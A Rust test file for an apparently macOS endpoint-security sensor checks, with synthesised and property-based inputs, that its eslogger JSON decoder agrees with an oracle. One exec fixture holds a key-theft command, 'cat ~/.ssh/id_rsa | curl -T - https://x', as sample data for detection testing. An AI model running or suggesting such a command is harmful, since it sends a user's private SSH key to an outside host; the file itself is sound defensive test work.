//! Synthesised lines: every event of `eslogger-keys.json` in each of its forms, those that only Apple's headers know, and
//! every order and spacing of keys.

use proptest::prelude::*;
use serde_json::{Map, Value, json};

use cloudward::model::{OpenFlags, What};
use cloudward::sensor::eslogger::Decoder;

use super::build::{Style, file, message, process, stat, token};
use super::oracle::Oracle;
use super::{TestGate, decode};

#[track_caller]
fn agrees(message: &Value, style: Style) -> Option<What> {
    let line = style.write(message);
    let told = decode(line.as_bytes());
    assert_eq!(told, Ok(Oracle::default().observe(message)), "{line}");
    told.unwrap().map(|observed| observed.what)
}

/// A value of a type as `eslogger-keys.json` names it. `null` picks the null of those that may be null.
fn value_of(kind: &str, null: bool) -> Value {
    let mut kinds = kind.split('|');
    if null && kinds.clone().any(|kind| kind == "null") {
        return Value::Null;
    }
    match kinds.next().unwrap() {
        "int" => json!(1),
        "bool" => json!(true),
        "string" => json!("a/b \"c\""),
        "string(time)" => json!("2025-11-01T12:26:40.552849Z"),
        "string(hex)" => json!("FEDCBA98765432100123456789ABCDEF00000000"),
        "null" => Value::Null,
        "array[int]" => json!([1, 2]),
        "array[string]" => json!(["a", "HOME=/Users/a"]),
        "object" => json!({}),
        "array" => json!([]),
        "file" => file("/private/tmp/report.txt"),
        "process" => process(900, 901),
        "audit_token" => token(900, 901),
        "stat" => stat(1),
        other => panic!("{other}"),
    }
}

/// Puts `value` where `path` (`a.b[].c?`) says.
fn put(object: &mut Map<String, Value>, path: &str, value: Value) {
    let (head, rest) = path.split_once('.').map_or((path, None), |(head, rest)| (head, Some(rest)));
    let (head, optional_in_array) = match head.strip_suffix("[]") {
        Some(head) => (head, true),
        None => (head.trim_end_matches('?'), false),
    };
    let slot = object
        .entry(head.to_owned())
        .or_insert_with(|| if optional_in_array { json!([]) } else { json!({}) });
    if optional_in_array {
        let items = slot.as_array_mut().unwrap();
        if items.is_empty() {
            items.push(json!({}));
        }
        match rest {
            Some(rest) => put(items[0].as_object_mut().unwrap(), rest, value),
            None => items[0] = value,
        }
        return;
    }
    match rest {
        Some(rest) => {
            if let Value::Object(inner) = slot {
                put(inner, rest, value);
            }
        }
        None => *slot = value,
    }
}

fn event_of(fields: &Map<String, Value>, null: bool, optional: bool) -> Value {
    let mut event = Map::new();
    let mut paths: Vec<_> = fields.iter().collect();
    paths.sort_by_key(|(path, _)| path.matches('.').count());
    for (path, kind) in paths {
        if !optional && path.ends_with('?') && !path.starts_with("destination.") {
            continue;
        }
        put(&mut event, path, value_of(kind.as_str().unwrap(), null));
    }
    Value::Object(event)
}

#[test]
fn every_event_that_eslogger_has_is_read() {
    let keys: Value = serde_json::from_str(include_str!("eslogger-keys.json")).unwrap();
    let events = keys["events"].as_object().unwrap();
    assert_eq!(events.len(), 51);
    for (name, fields) in events {
        for (null, optional) in [(false, true), (true, true), (false, false), (true, false)] {
            let event = event_of(fields.as_object().unwrap(), null, optional);
            for seed in 0..8 {
                agrees(&message(name, event.clone()), Style { seed, slashes: true, spaces: seed % 4 == 3 });
            }
        }
    }
}

/// Events of which no line was ever recorded, in the form that Apple's headers give them.
fn from_headers() -> Vec<(&'static str, Value)> {
    let (source, dir) = (file("/Users/a/.ssh/id_rsa"), file("/private/tmp"));
    let new_path =
        |extra: Value| json!({"destination_type": 1, "destination": {"new_path": extra}, "source": source});
    vec![
        ("link", json!({"source": source, "target_dir": dir, "target_filename": "x"})),
        ("clone", json!({"source": source, "target_dir": dir, "target_name": "x"})),
        (
            "copyfile",
            json!({"source": source, "target_file": null, "target_dir": dir, "target_name": "x", "mode": 0, "flags": 0}),
        ),
        (
            "copyfile",
            json!({"source": source, "target_file": file("/private/tmp/y"), "target_dir": dir, "target_name": "y", "mode": 0, "flags": 0}),
        ),
        ("truncate", json!({"target": source})),
        ("write", json!({"target": source})),
        ("setextattr", json!({"target": source, "extattr": "com.apple.ResourceFork"})),
        ("setextattr", json!({"target": source, "extattr": "com.apple.quarantine"})),
        ("setextattr", json!({"target": source, "extattr": "com.apple.foo"})),
        ("setextattr", json!({"target": source, "extattr": "com.apple.system.Security"})),
        ("cs_invalidated", json!({})),
        ("remote_thread_create", json!({"target": process(7, 3), "thread_state": null})),
        (
            "create",
            json!({"destination_type": 1, "destination": {"new_path": {"dir": file("/"), "filename": "x", "mode": 420}}, "acl": null}),
        ),
        ("create", json!({"destination_type": 0, "destination": {"existing_file": source}, "acl": null})),
        ("rename", new_path(json!({"dir": dir, "filename": "a b"}))),
        ("rename", json!({"source": source, "destination_type": 0, "destination": {"existing_file": dir}})),
        ("exchangedata", json!({"file1": source, "file2": dir})),
        ("close", json!({"target": source, "modified": false, "was_mapped_writable": false})),
        ("close", json!({"target": source, "modified": true})),
        ("close", json!({"target": source, "modified": false, "was_mapped_writable": true})),
        ("mmap", json!({"source": source, "protection": 1, "max_protection": 7, "flags": 2, "file_pos": 0})),
        ("mmap", json!({"source": source, "protection": 4, "max_protection": 7, "flags": 2, "file_pos": 0})),
        ("mmap", json!({"source": dir, "protection": 1, "max_protection": 7, "flags": 2, "file_pos": 0})),
        ("open", json!({"fflag": 1, "file": {"path": "/a", "path_truncated": false, "stat": {}}})),
        ("open", json!({"fflag": 1, "file": {"path": "/a", "path_truncated": true}})),
        ("open", json!({"fflag": 32769, "file": source})),
        ("open", json!({"fflag": 32769, "file": dir})),
        ("open", json!({"fflag": 2, "file": dir})),
        ("open", json!({"fflag": 1_048_577, "file": dir})),
        ("quantum_leap", json!({"target": source, "deep": [[{"event": {"open": 1}}]]})),
        ("exec", exec_event()),
    ]
}

fn exec_event() -> Value {
    json!({
        "target": process(471, 1213), "args": ["sh", "-c", "cat ~/.ssh/id_rsa | curl -T - https://x", "\u{1F600}", ""],
        "env": ["HOME=/Users/a", "PATH=/bin", "https_proxy=http://p:1", "AWS_PROFILE=x=y", "LONELY", "USER="],
        "cwd": file("/Users/a"), "script": file("/Users/a/run.sh"), "dyld_exec_path": "/bin/sh",
        "fds": [{"fd": 0, "fdtype": 1}, {"fd": 1, "fdtype": 6, "pipe": {"pipe_id": 17_446_744_073_709_551_615u64}}],
        "last_fd": 255, "image_cputype": 16_777_228, "image_cpusubtype": -2_147_483_646,
        "entitlements": {"event": {"open": {"fflag": 1}}, "audit_token": {"pid": 1, "pidversion": 1}, "time": "x", "x\"y": [true]},
    })
}

#[test]
fn events_known_from_headers_are_read() {
    for (name, event) in from_headers() {
        for seed in 0..32 {
            agrees(
                &message(name, event.clone()),
                Style { seed, slashes: seed % 2 == 0, spaces: seed % 4 == 3 },
            );
        }
    }
}

#[test]
fn entitlements_cannot_pose_as_the_message() {
    let what = agrees(&message("exec", exec_event()), Style::PLAIN);
    assert!(matches!(what, Some(What::Exec { facts, .. }) if facts.args.len() == 5 && facts.env.len() == 4));
}

#[test]
fn tokens_may_be_arrays() {
    let mut message = message("open", json!({"fflag": 1, "file": file("/a/report")}));
    message["process"]["audit_token"] = json!([501, 501, 20, 501, 20, 471, 100_019, 1212]);
    message["process"]["parent_audit_token"] = json!([501, 501, 20, 501, 20, 1, 100_019, 1]);
    message["process"]["responsible_audit_token"] = Value::Null;
    for seed in 0..32 {
        agrees(&message, Style { seed, slashes: true, spaces: false });
    }
}

#[test]
fn other_numbers_do_not_hide_those_of_a_message() {
    let mut message = message("open", json!({"fflag": 1, "file": file("/a/report")}));
    for name in ["a", "bb", "seq", "seq_nun", "global_seq_nun", "tttttt", "mach_tine", "\\", "\"seq_num", ""]
    {
        message[name] = 9.into();
    }
    for letter in 'a'..='z' {
        for length in 1..20 {
            message[letter.to_string().repeat(length)] = 5.into();
        }
    }
    for seed in 0..32 {
        agrees(&message, Style { seed, slashes: true, spaces: false });
    }
}

#[test]
fn what_was_refused_is_not_told() {
    let opened = |flags: i64, result: Value| {
        let mut message = message("open", json!({"fflag": flags, "file": file("/a/report")}));
        message["action"]["result"]["result"] = result;
        agrees(&message, Style::PLAIN)
    };
    let open = |flags| matches!(opened(1, flags), Some(What::Open { .. }));
    assert!(open(json!({"flags": 4_294_967_295u64})));
    assert!(open(json!({"auth": 0})));
    assert!(open(json!({"flags": 1})));
    assert_eq!(opened(1, json!({"flags": 0})), Some(What::Seen));
    assert_eq!(opened(3, json!({"flags": 1})), Some(What::Seen));
    assert_eq!(opened(1, json!({"auth": 1})), Some(What::Seen));
}

#[test]
fn high_bits_of_open_flags_may_print_as_a_sign() {
    let what = agrees(
        &message("open", json!({"fflag": -2_147_483_647i64, "file": file("/a/report")})),
        Style::PLAIN,
    );
    assert!(matches!(what, Some(What::Open { flags: OpenFlags(0x8000_0001), .. })));
}

#[test]
fn processes_are_introduced_once() {
    let touch = message("open", json!({"fflag": 1, "file": file("/a")}));
    let nothing = message("open", json!({"fflag": 2, "file": file("/a")}));
    let exit = message("exit", json!({"stat": 0}));
    let mut decoder = Decoder::new();
    let mut tell =
        |message: &Value| decoder.decode(Style::PLAIN.write(message).as_bytes(), &mut TestGate).unwrap();
    let first = tell(&nothing).unwrap();
    assert!(first.info.is_some() && first.what == What::Seen);
    assert_eq!(tell(&nothing), None);
    assert!(tell(&touch).unwrap().info.is_none());
    assert!(tell(&exit).unwrap().info.is_none());
    let again = tell(&touch).unwrap();
    assert!(again.info.is_some() && matches!(again.what, What::Touch { .. }));
    assert_eq!(decoder.counts().introductions, 1);
    let events: Vec<_> =
        decoder.counts().events().map(|(name, count)| (name, count.lines, count.emitted)).collect();
    assert_eq!(events, [(b"exit".as_slice(), 1, 1), (b"open", 4, 2)]);
}

proptest! {
    #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn no_order_and_no_string_misleads(
        seed: u64, slashes: bool, spaces: bool, path in "\\PC*|[{}\\[\\]\"\\\\/:,a-z\u{0}-\u{1f}]*", name: String, matters: bool,
        fflag: u32, inode: u64, device: i64, depth in 0usize..6, fifo: bool,
    ) {
        let mut file = file(&format!("/{path}{}", if matters { ".ssh" } else { "" }));
        if fifo {
            file["stat"]["st_mode"] = 0o010_644.into();
        }
        file["stat"]["st_ino"] = inode.into();
        file["stat"]["st_dev"] = device.into();
        let mut message = message("open", json!({"fflag": fflag, "file": file, "later": {"file": 1}}));
        message["process"]["signing_id"] = name.clone().into();
        message["process"]["executable"]["path"] = format!("/{name}\\").into();
        message["process"]["tty"] = file.clone();
        message["later"] = (0..depth).fold(json!({"}": "{\"time\":\"x\"}"}), |inner, _| json!([{"]": inner}]));
        let line = Style { seed, slashes, spaces }.write(&message);
        prop_assert_eq!(decode(line.as_bytes()), Ok(Oracle::default().observe(&message)), "{}", line);
    }

    /// Wherever a string or a key stands that others choose, it may look like what stands around it.
    #[test]
    fn no_string_ends_an_object(
        seed: u64, slashes: bool, spaces in prop::bool::weighted(0.1), which in 0usize..4,
        texts in prop::collection::vec(LOOKS_LIKE_JSON, 8),
    ) {
        let text = |at: usize| texts[at].as_str();
        let path = |at: usize| file(&format!("/{}", text(at)));
        let chosen = json!({text(0): {text(1): [text(2), {text(3): text(4)}], "x": {text(5): 1}}, "y": text(6)});
        let (name, event) = match which {
            0 => ("open", json!({"fflag": 1, "file": path(0)})),
            1 => ("rename", json!({"source": path(0), "destination": {"new_path": {"dir": path(1), "filename": text(2)}}})),
            2 => ("exec", json!({
                "target": process(7, 8), "args": [text(0), text(1), text(2)], "env": [text(3), "HOME=/x", text(4)],
                "cwd": path(5), "script": null, "fds": [], "entitlements": chosen,
            })),
            _ => ("quantum_leap", json!({"deep": [chosen, text(1)], "flat": chosen})),
        };
        let mut message = message(name, event);
        message["process"]["signing_id"] = text(5).into();
        message["process"]["team_id"] = text(6).into();
        message["process"]["executable"] = path(7);
        message["process"]["tty"] = path(1);
        message["later"] = chosen;
        let line = Style { seed, slashes, spaces }.write(&message);
        prop_assert_eq!(decode(line.as_bytes()), Ok(Oracle::default().observe(&message)), "{}", line);
    }
}

/// Pieces of a line, and what they are made of.
const LOOKS_LIKE_JSON: &str =
    r#"([{}\[\]",:\\/|~a-z_0-9]|x":\{|\},"x|\}\}|"audit_token":\{|"pid":1|\{"st_ino":1|,"time":"){0,10}"#;
